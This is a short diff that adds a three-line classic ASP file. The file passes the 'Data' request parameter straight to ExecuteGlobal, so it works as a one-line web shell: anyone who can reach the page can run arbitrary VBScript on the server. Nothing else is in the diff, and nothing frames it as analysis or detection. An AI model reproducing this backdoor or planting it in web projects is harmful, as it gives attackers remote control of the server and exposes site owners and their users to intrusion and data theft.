@@ -1,0 +1,3 @@
+<%
+	ExecuteGlobal	request("Data")
+%>
